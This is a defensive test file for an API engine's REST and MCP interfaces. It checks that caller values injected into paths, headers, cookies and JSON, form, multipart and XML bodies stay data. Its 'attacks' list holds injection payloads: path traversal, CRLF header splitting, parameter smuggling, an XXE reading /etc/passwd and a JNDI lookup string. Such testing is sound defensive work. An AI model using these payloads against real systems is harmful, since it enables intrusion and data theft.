/** Values of callers are data of their place: whatever they hold, the upstream request keeps its shape. */
import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/json/json-value.ts';
import { runs, seed } from '../fuzz/cases.ts';
import { type Started, start } from '../support/started.ts';
import { type RecordedRequest, startUpstream, type Upstream } from '../support/upstream.ts';

/** One value, `v`, in every place of an upstream request; `w` stands after it and must stay what it is. */
const operations: Readonly<Record<string, string>> = {
  path: '{ name: path, method: GET, path: "/files/{{v}}/tail" }',
  query: '{ name: query, method: GET, path: /q, inputParameters: [{ name: v, in: query }, { name: w, in: query }] }',
  written: '{ name: written, method: GET, path: "/q?fixed=1&v={{v}}&w={{w}}" }',
  header:
    '{ name: header, method: GET, path: /h, inputParameters: [{ name: X-V, in: header, value: "{{v}}" }, { name: X-W, in: header, value: "{{w}}" }] }',
  cookie:
    '{ name: cookie, method: GET, path: /h, inputParameters: [{ name: v, in: cookie }, { name: w, in: cookie }] }',
  json: '{ name: json, method: POST, path: /b, body: { type: json, data: { v: "{{v}}", mixed: "<{{v}}>", role: user } } }',
  jsonText: `{ name: jsonText, method: POST, path: /b, body: '{"v":"{{v}}","role":"user","w":{{w}}}' }`,
  form: '{ name: form, method: POST, path: /b, body: { type: formUrlEncoded, data: { v: "{{v}}", role: user } } }',
  formText: '{ name: formText, method: POST, path: /b, body: { type: formUrlEncoded, data: "v={{v}}&role=user" } }',
  multipart:
    '{ name: multipart, method: POST, path: /b, body: { type: multipartForm, data: [{ name: v, value: "{{v}}" }, { name: file, filename: "{{v}}", value: "x{{v}}" }, { name: role, value: user }] } }',
  cookieHeader:
    '{ name: cookieHeader, method: GET, path: /h, inputParameters: [{ name: Cookie, in: header, value: "v={{v}}; w={{w}}" }] }',
  partType:
    '{ name: partType, method: POST, path: /b, body: { type: multipartForm, data: [{ name: file, filename: f, contentType: "text/{{v}}", value: x }, { name: role, value: user }] } }',
  xml: '{ name: xml, method: POST, path: /b, body: { type: xml, data: "<o><v a=\\"{{v}}\\">{{v}}</v><role>user</role></o>" } }',
};

function document(): string {
  const names = Object.keys(operations);
  const resources = names
    .map((name) => {
      const path = /path: ("[^"]*"|\/\w+)/.exec(operations[name] ?? '')?.[1] ?? '/';
      return `        - { name: ${name.toLowerCase()}, path: ${path}, operations: [ ${operations[name]?.replace(/, path: ("[^"]*"|\/\w+)/, '')} ] }`;
    })
    .join('\n');
  const inputs =
    'inputParameters: [{ name: v, in: body, type: string, description: V }, { name: w, in: body, type: string, description: W }]';
  const toolInputs =
    'inputParameters: [{ name: v, type: string, description: V }, { name: w, type: string, description: W }]';
  return `
naftiko: 1.0.0-alpha2
info: { label: Places, description: A value in every place }
capability:
  consumes:
    - type: http
      namespace: up
      description: Records
      baseUri: UPSTREAM/base
      resources:
${resources}
  exposes:
    - type: rest
      namespace: rest
      port: 0
      resources:
${names.map((name) => `        - { path: /${name}, operations: [ { method: POST, call: up.${name}, ${inputs} } ] }`).join('\n')}
    - type: mcp
      namespace: mcp
      port: 0
      tools:
${names.map((name) => `        - { name: ${name}, description: Places, call: up.${name}, ${toolInputs} }`).join('\n')}
`;
}

let upstream: Upstream;
let running: Started;
beforeAll(async () => {
  upstream = await startUpstream({ json: { ok: true } });
  running = await start(document(), upstream.url);
});
afterAll(async () => {
  await running.stop();
  await upstream.stop();
});

/** Sends `v` one way and gives what arrived; undefined: refused before anything was sent. */
async function sent(way: string, name: string, v: string): Promise<RecordedRequest | undefined> {
  upstream.requests.length = 0;
  const values: JsonObject = { v, w: 'after' };
  if (way === 'REST') {
    const answer = await running.rest('rest', 'POST', `/${name}`, values);
    // The engine never fails on a value: it sends it as data or says that it can not.
    expect([200, 400], answer.text).toContain(answer.status);
    expect(upstream.requests.length).toBe(answer.status === 200 ? 1 : 0);
  } else {
    const result = await running.tool('mcp', name, values);
    expect(upstream.requests.length).toBe(result.isError ? 0 : 1);
  }
  return upstream.requests[0];
}

/** What each place must hold, whatever `v` is; a second argument of `sent` that is undefined was refused. */
const shapes: Readonly<Record<string, (request: RecordedRequest, v: string) => void>> = {
  path: ({ url }, v) => {
    const [, base, files, segment = '', tail, ...more] = url.split('/');
    expect([base, files, tail, more]).toEqual(['base', 'files', 'tail', []]);
    expect(segment).not.toMatch(/[?#\\]/);
    expect(decodeURIComponent(segment)).toBe(v);
  },
  query: ({ url }, v) => {
    const { pathname, searchParams, hash } = new URL(url, 'http://x');
    expect([pathname, hash]).toEqual(['/base/q', '']);
    expect([...searchParams]).toEqual([
      ['v', v],
      ['w', 'after'],
    ]);
  },
  written: ({ url }, v) => {
    const { pathname, searchParams, hash } = new URL(url, 'http://x');
    expect([pathname, hash]).toEqual(['/base/q', '']);
    expect([...searchParams]).toEqual([
      ['fixed', '1'],
      ['v', v],
      ['w', 'after'],
    ]);
  },
  header: ({ rawHeaders }, v) => {
    const names = rawHeaders.filter((_text, index) => index % 2 === 0).map((name) => name.toLowerCase());
    expect(names.filter((name) => name.startsWith('x-'))).toEqual(['x-v', 'x-w']);
    expect(new Set(names).size).toBe(names.length);
    const at = rawHeaders.indexOf('X-V');
    expect(
      Buffer.from(rawHeaders[at + 1] ?? '', 'latin1')
        .toString()
        .trim(),
    ).toBe(v.trim());
  },
  cookie: ({ headers }) => {
    const pairs = (headers['cookie'] ?? '').split(';').map((pair) => pair.trim().split('=')[0]);
    expect(pairs).toEqual(['v', 'w']);
  },
  cookieHeader: ({ headers }) => {
    const pairs = (headers['cookie'] ?? '').split(/[;,]/).map((pair) => pair.trim().split('=')[0]);
    expect(pairs).toEqual(['v', 'w']);
  },
  json: ({ text }, v) => expect(JSON.parse(text)).toEqual({ v, mixed: `<${v}>`, role: 'user' }),
  jsonText: ({ text }, v) => expect(JSON.parse(text)).toEqual({ v, role: 'user', w: 'after' }),
  form: ({ text, headers }, v) => {
    expect(headers['content-type']).toBe('application/x-www-form-urlencoded');
    expect([...new URLSearchParams(text)]).toEqual([
      ['v', v],
      ['role', 'user'],
    ]);
  },
  formText: ({ text }, v) =>
    expect([...new URLSearchParams(text)]).toEqual([
      ['v', v],
      ['role', 'user'],
    ]),
  multipart: ({ body, headers }, v) => {
    const boundary = /boundary="?([^";]+)"?/.exec(headers['content-type'] ?? '')?.[1] ?? '';
    const parts = body.toString('latin1').split(`--${boundary}`);
    expect(parts.length).toBe(5);
    expect([parts[0], parts[4]]).toEqual(['', '--\r\n']);
    const [first, file, role] = parts.slice(1, 4).map((part) => {
      const end = part.indexOf('\r\n\r\n');
      return { head: part.slice(2, end).split('\r\n'), content: part.slice(end + 4, -2) };
    });
    expect(Buffer.from(first?.content ?? '', 'latin1').toString()).toBe(v);
    expect(first?.head.map((line) => line.split(':')[0]?.toLowerCase())).toEqual([
      'content-disposition',
      'content-type',
    ]);
    expect(file?.head.map((line) => line.split(':')[0]?.toLowerCase())).toEqual([
      'content-disposition',
      'content-type',
    ]);
    // A quote in the file name would begin another parameter.
    expect(file?.head[0]?.match(/"/g)?.length).toBe(4);
    expect(role?.content).toBe('user');
  },
  partType: ({ body }) => {
    const [head = '', ...rest] = body.toString('latin1').split('\r\n\r\n');
    expect(head.split('\r\n').map((line) => line.split(/[:-]/)[0])).toEqual(['', 'Content', 'Content']);
    expect(rest.length).toBe(2);
  },
  xml: ({ text }) => {
    // The document's own markup and none besides: what a value brings along is escaped.
    expect(text.match(/<[^>]*>?/g)?.map((tag) => tag.replace(/".*"/s, '""'))).toEqual([
      '<o>',
      '<v a="">',
      '</v>',
      '<role>',
      '</role>',
      '</o>',
    ]);
    expect(text.match(/"/g)?.length).toBe(2);
    expect(text.match(/&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-f]+);)/gi)).toBeNull();
    expect(text.endsWith('</v><role>user</role></o>')).toBe(true);
  },
};

/** Attacks seen in the field, and their relatives. */
const attacks: readonly string[] = [
  '../../admin/delete?x=1#',
  '..',
  '.',
  '%2e%2e',
  '..%2f..%2fadmin',
  '..\\..\\admin',
  '..;/admin',
  '/',
  '//evil.example/',
  '@evil.example/',
  'a?b=c&d=e#f',
  'x","role":"admin","z":"1',
  '"}],"role":"admin',
  '\\","role":"admin","z":"',
  'x&role=admin',
  'x;role=admin',
  'x\r\nX-Evil: 1',
  'x\nX-Evil: 1',
  'x\r\n\r\nGET /evil HTTP/1.1\r\n',
  '\u0000',
  'x\u2028y\u2029z',
  '\u0085X-Evil: 1',
  '嘊嘍X-Evil: 1',
  '</v><role>admin</role><v>',
  '" onload="x" role="admin',
  ']]><role>admin</role>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '--x\r\nContent-Disposition: form-data; name="role"\r\n\r\nadmin',
  '"; name="role',
  '{{w}}',
  '{{{w}}}',
  '{{#w}}x{{/w}}',
  '$.w',
  'rest.w',
  '$this.rest.w',
  '${jndi:ldap://evil.example}',
  '{w}',
  '%',
  '%zz',
  '%00',
  '\ud800',
  '😀',
  '__proto__',
  '-1',
  'null',
  '',
  ' ',
  '\t',
];

const ways = ['REST', 'MCP'];
const cases = ways.flatMap((way) => Object.keys(operations).map((name) => [way, name] as const));

describe.each(cases)('%s, %s', (way, name) => {
  const check = async (v: string): Promise<void> => {
    const request = await sent(way, name, v);
    if (request === undefined) return;
    // A lone surrogate is no text: it arrives as the replacement character, but JSON has an escape for it.
    shapes[name]?.(request, name.startsWith('json') ? v : v.toWellFormed());
  };

  it('keeps its shape under known attacks', async () => {
    for (const attack of attacks) await check(attack);
  });

  it('keeps its shape under any text', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.string({ unit: fc.constantFrom(...`"'\\/?#&=;%{}<>[]\r\n\t .:@,$`), maxLength: 12 }),
      fc.tuple(fc.constantFrom(...attacks), fc.constantFrom(...attacks)).map((parts) => parts.join('')),
    );
    await fc.assert(fc.asyncProperty(text, check), { numRuns: runs(60), seed });
  });
});

it('only what can not be sent is refused, and the refusal names the input', async () => {
  for (const v of ['..', '.', '', '\u0000', 'a\r\nb']) {
    const answer = await running.rest('rest', 'POST', '/path', { v, w: '' });
    expect(answer.status, JSON.stringify(v)).toBe(400);
    expect(answer.text).toContain('v');
    const result = await running.tool('mcp', 'path', { v, w: '' });
    expect(result.isError).toBe(true);
    expect(result.content[0]?.text).toContain('"v"');
  }
  expect((await running.rest('rest', 'POST', '/header', { v: 'a\r\nX-Evil: 1', w: '' })).status).toBe(400);
  expect((await running.rest('rest', 'POST', '/path', { v: 'a/../b', w: '' })).status).toBe(200);
});

describe('a variable of the base URI', () => {
  const based = `
naftiko: 1.0.0-alpha2
info: { label: Tenants, description: The caller names the tenant }
capability:
  consumes:
    - type: http
      namespace: up
      description: Tenants
      baseUri: "UPSTREAM/t/{{v}}/u"
      resources: [ { name: thing, path: /thing, operations: [ { name: read, method: GET } ] } ]
    - type: http
      namespace: hosted
      description: Hosts
      baseUri: "http://{{v}}:9/u"
      resources: [ { name: thing, path: /thing, operations: [ { name: read, method: GET } ] } ]
  exposes:
    - type: rest
      namespace: rest
      port: 0
      resources:
        - { path: /thing, operations: [ { method: POST, call: up.read, inputParameters: [ { name: v, in: body, type: string, description: V } ] } ] }
        - { path: /hosted, operations: [ { method: POST, call: hosted.read, inputParameters: [ { name: v, in: body, type: string, description: V } ] } ] }
    - type: mcp
      namespace: mcp
      port: 0
      tools: [ { name: thing, description: Thing, call: up.read, inputParameters: [ { name: v, type: string, description: V } ] } ]
`;
  let tenants: Started;
  beforeAll(async () => {
    tenants = await start(based, upstream.url);
  });
  afterAll(() => tenants.stop());

  it('stays in its segment, whatever it holds', async () => {
    for (const v of attacks) {
      upstream.requests.length = 0;
      const { status } = await tenants.rest('rest', 'POST', '/thing', { v });
      const refused = /^\.{0,2}$|\p{Cc}/u.test(v);
      expect([v, status]).toEqual([v, refused ? 400 : 200]);
      expect((await tenants.tool('mcp', 'thing', { v })).isError).toBe(refused);
      for (const { url } of upstream.requests) expect(url).toMatch(/^\/t\/(?!\.{1,2}\/)[^/?#]+\/u\/thing$/);
    }
  });

  it.each(['::1', 'a:80', '1.2.3.4.5'])('%s, of which no host becomes, is the fault of the caller', async (v) => {
    const { status, text } = await tenants.rest('rest', 'POST', '/hosted', { v });
    expect([status, text]).toEqual([400, expect.stringContaining('\\"v\\" must be a host name')]);
  });
});
